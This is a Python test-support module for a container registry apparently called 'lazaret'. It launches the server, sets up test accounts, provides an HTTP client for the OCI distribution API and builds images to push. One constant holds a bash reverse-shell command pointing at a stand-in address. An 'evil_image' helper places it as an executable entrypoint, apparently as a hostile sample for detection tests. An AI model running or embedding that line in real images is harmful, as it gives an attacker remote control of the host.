"""`lazaret serve` for tests: starting it, accounts, a client of the distribution API over http.client, images to push."""
import base64
import hashlib
import http.client
import json
import os
import signal
import socket
import subprocess
import time

import support
import images
from images import File, Image, elf, layer

PASSWORD = "correct horse"
INDEX = "application/vnd.oci.image.index.v1+json"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"

BASE = layer(File("bin", folder=True), File("bin/true", elf(), mode=0o755), File("etc/os-release", "ID=test\n"))
SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"


def clean_image(name="clean", more=()):
    return Image([BASE, layer(File("etc/name", name + "\n")), *more], cmd=["/bin/true"])


def evil_image(name="evil", more=()):
    return Image([BASE, layer(File("run.sh", f"#!/bin/bash\n# {name}\n" + SHELL, mode=0o755)), *more], entrypoint=["/run.sh"])


def sha256(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def sha512(data):
    return "sha512:" + hashlib.sha512(data).hexdigest()


def free_port():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        return server.getsockname()[1]


class Server:
    """A server with a folder of its own. Accounts: admin, alice, bob, carol."""

    def __init__(self, folder, config="", start=True, environment=None):
        self.folder, self.config, self.environment = folder, config, environment or {}
        self.data = f"{folder}/data"
        self.port = free_port()
        self.host = f"127.0.0.1:{self.port}"
        self.process = None
        os.makedirs(self.data, exist_ok=True)
        if not os.path.exists(f"{self.data}/accounts.sqlite"):
            for name in ("alice", "bob", "carol"):
                self.user("add", name, "--password-stdin", input=PASSWORD + "\n")
        if start:
            self.start()

    def __enter__(self):
        return self

    def __exit__(self, *unused):
        self.stop()

    def start(self, wait=True):
        with open(f"{self.folder}/lazaret.toml", "w") as out:
            out.write(self.config)
        self.log = open(f"{self.folder}/serve.log", "a")
        self.process = subprocess.Popen([support.LAZARET, "serve", "--config", f"{self.folder}/lazaret.toml", "--data", self.data, "--listen", self.host],
                                        stdout=self.log, stderr=self.log, env=dict(os.environ, **self.environment))
        if wait:
            self.wait_until_ready()

    def wait_until_ready(self):
        for _ in range(600):
            if self.process.poll() is not None:
                raise AssertionError(f"serve ended with {self.process.returncode}: {self.text_of_log()}")
            try:
                if Client(self).request("GET", "/readyz")[0] == 200:
                    return
            except OSError:
                pass
            time.sleep(0.05)
        raise AssertionError("the server is not ready: " + self.text_of_log())

    def text_of_log(self):
        with open(f"{self.folder}/serve.log") as log:
            return log.read()[-2000:]

    def stop(self):
        if self.process is None:
            return
        self.process.send_signal(signal.SIGTERM)
        try:
            code = self.process.wait(60)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
            raise AssertionError("the server did not stop")
        self.process = None
        self.log.close()
        assert code == 0, f"serve ended with {code}: {self.text_of_log()}"

    def kill(self):
        self.process.kill()
        self.process.wait()
        self.process = None
        self.log.close()

    def user(self, *arguments, input="", code=0):
        """`lazaret user`; its standard output."""
        done = subprocess.run([support.LAZARET, "user", "--data", self.data, *arguments], input=input, capture_output=True, text=True, timeout=120)
        assert done.returncode == code, (done.returncode, done.stdout, done.stderr)
        return done.stdout if code == 0 else done.stderr

    def admin_password(self):
        with open(f"{self.data}/admin-password") as file:
            return file.read().strip()

    def password_file(self):
        """The password of alice, bob and carol, as --password-file takes it."""
        with open(f"{self.folder}/password", "w") as out:
            out.write(PASSWORD + "\n")
        return f"{self.folder}/password"

    def fsck(self):
        done = subprocess.run([support.LAZARET, "fsck", "--data", self.data, "--content"], capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout


class Answer:
    def __init__(self, status, headers, body):
        self.status, self.headers, self.body = status, headers, body

    def __iter__(self):
        return iter((self.status, self.headers, self.body))

    def __getitem__(self, index):
        return (self.status, self.headers, self.body)[index]

    def json(self):
        return json.loads(self.body)

    def code(self):
        """The first error's code, "" when the body is none of the specification's."""
        try:
            return self.json()["errors"][0]["code"]
        except (ValueError, KeyError, IndexError, TypeError):
            return ""

    def message(self):
        return self.json()["errors"][0].get("message", "")

    def __repr__(self):
        return f"{self.status} {dict(self.headers)} {self.body[:500]!r}"


class Client:
    """Requests as they are written, one connection each."""

    def __init__(self, server, user=None, password=None):
        self.server, self.user = server, user
        self.password = password if password is not None else (server.admin_password() if user == "admin" else PASSWORD)

    def headers(self):
        if self.user is None:
            return {}
        return {"Authorization": "Basic " + base64.b64encode(f"{self.user}:{self.password}".encode()).decode()}

    def request(self, method, path, body=None, headers=None, timeout=120):
        connection = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=timeout)
        try:
            connection.request(method, path, body=body, headers={**self.headers(), **(headers or {})})
            answer = connection.getresponse()
            return Answer(answer.status, answer.headers, answer.read())
        finally:
            connection.close()

    def get(self, path, **headers):
        return self.request("GET", path, headers={key.replace("_", "-"): value for key, value in headers.items()})

    def head(self, path, **headers):
        return self.request("HEAD", path, headers={key.replace("_", "-"): value for key, value in headers.items()})

    # --- pushing
    def start_upload(self, repository, query=""):
        answer = self.request("POST", f"/v2/{repository}/blobs/uploads/{query}", headers={"Content-Length": "0"})
        assert answer.status == 202, answer
        return answer.headers["Location"]

    def push_blob(self, repository, data, digest=None):
        location = self.start_upload(repository)
        return self.request("PUT", f"{location}?digest={digest or sha256(data)}", body=data, headers={"Content-Type": "application/octet-stream"})

    def put_manifest(self, repository, reference, document, media_type=MANIFEST):
        if isinstance(document, dict):
            document = json.dumps(document).encode()
        return self.request("PUT", f"/v2/{repository}/manifests/{reference}", body=document, headers={"Content-Type": media_type} if media_type else {})

    def push(self, repository, tag, image, compress=True):
        """The whole of an image. Returns (answer to the manifest, digest of the manifest, {digest: blob})."""
        document, blobs = image.manifest(compress)
        for data in blobs.values():
            answer = self.push_blob(repository, data)
            assert answer.status == 201, answer
        return self.put_manifest(repository, tag, document), sha256(document), blobs


def descriptor(data, media_type, **more):
    return {"mediaType": media_type, "digest": sha256(data), "size": len(data), **more}


def index_of(*documents, **more):
    """An index of manifests (bytes)."""
    return json.dumps({"schemaVersion": 2, "mediaType": INDEX, "manifests": [descriptor(d, json.loads(d).get("mediaType", MANIFEST)) for d in documents], **more}).encode()
